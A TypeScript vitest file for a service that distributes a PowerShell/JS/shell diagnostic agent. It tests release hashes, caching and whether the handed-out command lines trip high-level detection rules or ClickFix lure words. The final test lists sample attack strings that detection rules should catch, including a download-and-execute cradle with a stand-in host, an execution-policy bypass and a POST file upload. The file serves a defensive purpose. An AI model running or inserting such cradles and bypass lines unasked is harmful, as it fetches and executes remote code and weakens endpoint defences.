/** The agents as they are published, the lines that fetch them, and what detection rules say to both. */
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterEach, beforeEach, expect, onTestFinished, test } from "vitest";
import { linesOf } from "../../api/cases/agent-commands.ts";
import { VERSION } from "../../api/cases/release-files.ts";
import type { CaseWay } from "../../shared/schema/ways.ts";
import { LURE_WORDS, matchedRules, matchedTitles } from "../support/detection-strings.ts";
import { json, ORIGIN, openService, type Service, sha256 } from "../support/service.ts";

const root = join(import.meta.dirname, "../..");
const script = await readFile(join(root, "agent/windows.ps1"), "utf8");
const document = await readFile(join(root, "docs/delivery.md"), "utf8");

let service: Service;
beforeEach(async () => {
  service = await openService();
  service.deps.windowsAgent = script;
});
afterEach(() => service.close());

const openCase = async (gateway = "vpn.example.com") => {
  const made = await service.request("POST", "/v1/cases", {
    token: service.tokens.staff,
    json: { gateway },
  });
  return json<{ code: string; commands: Record<string, string>; ways: CaseWay[] }>(made);
};

test.each([
  ["ikefrag.ps1", "text/plain"],
  ["ikefrag.mjs", "text/javascript"],
  ["ikefrag.sh", "text/plain"],
  ["SHA256SUMS", "text/plain"],
])("/agent/VERSION/%s is served for good, and its ETag is the hash of its bytes", async (name, type) => {
  const path = `/agent/${VERSION}/${name}`;
  const answer = await service.request("GET", path);
  expect(answer.status).toBe(200);
  expect(answer.headers.get("content-type")).toBe(`${type}; charset=utf-8`);
  expect(answer.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
  const text = await answer.text();
  const etag = `"${sha256(text)}"`;
  expect(answer.headers.get("etag")).toBe(etag);
  expect((await service.request("GET", path, { headers: { "if-none-match": etag } })).status).toBe(304);
  if (name === "SHA256SUMS") return;
  // Nothing of a case is in it, and the list names it.
  expect(text).toContain("__IKEFRAG_CODE__");
  const list = await (await service.request("GET", `/agent/${VERSION}/SHA256SUMS`)).text();
  expect(list).toContain(`${sha256(text)}  ${name}\n`);
});

test("SHA256SUMS is what sha256sum takes, of the files as they come", async () => {
  const directory = await mkdtemp(join(tmpdir(), "ikefrag-release-"));
  onTestFinished(() => rm(directory, { recursive: true, force: true }));
  for (const name of ["ikefrag.ps1", "ikefrag.mjs", "ikefrag.sh", "SHA256SUMS"]) {
    const answer = await service.request("GET", `/agent/${VERSION}/${name}`);
    await writeFile(join(directory, name), Buffer.from(await answer.arrayBuffer()));
  }
  const check = () => promisify(execFile)("sha256sum", ["--strict", "-c", "SHA256SUMS"], { cwd: directory });
  expect((await check()).stdout.match(/: OK$/gm)).toHaveLength(3);
  await writeFile(join(directory, "ikefrag.sh"), "#");
  await expect(check()).rejects.toMatchObject({ code: 1 });
});

test.each(["/agent/9.9.9/ikefrag.ps1", `/agent/${VERSION}/ikefrag.exe`])(
  "%s is not there, and the answer says what is",
  async (path) => {
    const answer = await service.request("GET", path);
    expect(answer.status).toBe(404);
    const problem = await json<{ type: string; detail: string }>(answer);
    expect(problem.type).toBe("/problems/release-not-found");
    expect(problem.detail).toContain(`${ORIGIN}/agent/${VERSION}/SHA256SUMS`);
  },
);

test("1,000 cases hand out one file with one hash", async () => {
  const seen = new Set<string>();
  for (let at = 0; at < 1_000; at++) {
    const { code, commands } = await openCase(`vpn${at}.example.com`);
    expect(commands.windows).toContain(`-Server ${ORIGIN} -Code ${code} `);
    seen.add((commands.windows ?? "").replace(code, ""));
  }
  expect([...seen].map((line) => /'([0-9A-F]{64})'/.exec(line)?.[1])).toEqual([sha256(script).toUpperCase()]);
});

test("the ways are those of the operator, and the lines of a case those of the first that has any", async () => {
  for (const [delivery, first] of [
    [["file", "by-hand", "quick"], "file"],
    [["installed", "quick", "file"], "quick"],
    [["installed", "by-hand"], "file"],
  ] as const) {
    service.deps.config.delivery = delivery;
    const { code, commands, ways } = await openCase();
    expect(ways.map(({ way }) => way)).toEqual(delivery);
    const { powershell: _, ...lines } = linesOf(service.deps, first, ORIGIN, code) ?? { powershell: "" };
    expect(commands).toEqual(lines);
    for (const { way, lines, page } of ways) {
      expect(lines !== null, way).toBe(way === "file" || way === "quick");
      expect(page).toBe(way === "by-hand" ? `${ORIGIN}/a/${code}/by-hand` : null);
    }
  }
});

test("the line for Windows means the same in cmd, in PowerShell and in sh", () => {
  const { windows = "" } = linesOf(service.deps, "file", ORIGIN, "0123-4567-89ABC") ?? {};
  expect(windows).not.toMatch(/[$%`|#!^&<>]/);
  expect(windows.split('"')).toHaveLength(3);
  expect(windows).not.toMatch(/[^\x20-\x7e]/);
});

/** Every line that a user may be handed on Windows, with what its process and its script block are. */
const LINES = (["quick", "file"] as const).flatMap((way) => {
  const agents = { windowsAgent: script, agentBundle: "", posixAgent: "" };
  const { windows = "", powershell = "" } = linesOf(agents, way, ORIGIN, "0123-4567-89ABC") ?? {};
  const started = /\b(powershell -NoProfile [^}]*?-File [^}]*?)(?: })/.exec(powershell)?.[1];
  return [
    { way, kind: "line", commandLine: windows, block: /"(.*)"/.exec(windows)?.[1] ?? "" },
    { way, kind: "line in an open PowerShell", commandLine: started ?? "", block: powershell },
  ];
});

test.each(LINES)(
  "of detection rules of level high none matches, the quick form apart: $way, $kind",
  ({ way, kind, commandLine, block }) => {
    const high = [
      ...matchedTitles("command-line", commandLine, "high"),
      ...matchedTitles("script-block", block, "high"),
    ];
    const isCradle = way === "quick" && kind === "line";
    expect(high).toEqual(isCradle ? ["PowerShell Download and Execution Cradles"] : []);
    for (const word of LURE_WORDS) expect(`${commandLine} ${block}`.toLowerCase()).not.toContain(word);
    // What does match stands in the document.
    for (const { title } of [
      ...matchedRules("command-line", commandLine),
      ...matchedRules("script-block", block),
    ])
      expect(document).toContain(title);
  },
);

test("the published script meets no rule of level high, and the document names those that it meets", () => {
  const met = matchedRules("script-block", script);
  expect(met.filter(({ level }) => level === "high")).toEqual([]);
  expect(met.length).toBeGreaterThan(0);
  for (const { title } of met) expect(document).toContain(title);
  const parameters = /\n {2}param\(([\s\S]*?)\n {2}\)/.exec(script)?.[1] ?? "";
  expect(parameters).toContain("$Server");
  for (const word of LURE_WORDS) expect(parameters.toLowerCase()).not.toContain(word);
});

test("no text of ours leads to Win+R, where every line with an address is in a rule of level high", async () => {
  for (const { commandLine } of LINES.filter(({ kind }) => kind === "line"))
    expect(matchedTitles("run-dialog", commandLine, "high").length).toBeGreaterThan(0);
  const code = (await openCase()).code;
  for (const language of ["en", "ja"]) {
    const page = await (await service.request("GET", `/a/${code}?lang=${language}&for=windows`)).text();
    // The source of the program is no text that tells anybody what to press.
    expect(page.replace(/<pre[\s\S]*?<\/pre>/g, "")).not.toMatch(/Win(?:dows)?\s*(?:key)?\s*[+＋]\s*R\b/i);
  }
});

test.each([
  [
    "command-line",
    'powershell -c "iwr https://x.example | iex"',
    "PowerShell Download and Execution Cradles",
  ],
  ["command-line", "powershell -NoPr -File x.ps1", "Suspicious PowerShell Parameter Substring"],
  ["command-line", "powershell -executionpolicy Bypass", "Change PowerShell Policies to an Insecure Level"],
  [
    "command-line",
    "powershell -File C:\\Windows\\Temp\\x.ps1",
    "Suspicious Script Execution From Temp Folder",
  ],
  [
    "command-line",
    "powershell -ExecutionPolicy Bypass -File C:\\Users\\me\\Documents\\x.ps1",
    "a script from a user's folder, under Bypass",
  ],
  ["command-line", "powershell x # I am human", "Suspicious ClickFix/FileFix Execution Pattern"],
  [
    "script-block",
    "Invoke-WebRequest -Uri $u -Method Post",
    "PowerShell Script With File Upload Capabilities",
  ],
  ["script-block", "Unblock-File -Path x.ps1", "Suspicious Unblock-File"],
  [
    "run-dialog",
    "powershell https://x.example",
    "Potentially Suspicious Command Executed Via Run Dialog Box - Registry",
  ],
  ["run-dialog", "x https://x.example verify", "Potential ClickFix Execution Pattern - Registry"],
] as const)("the strings find what they are there to find in a %s: %s", (place, text, title) => {
  expect(matchedRules(place, text).map((match) => match.title)).toContain(title);
});
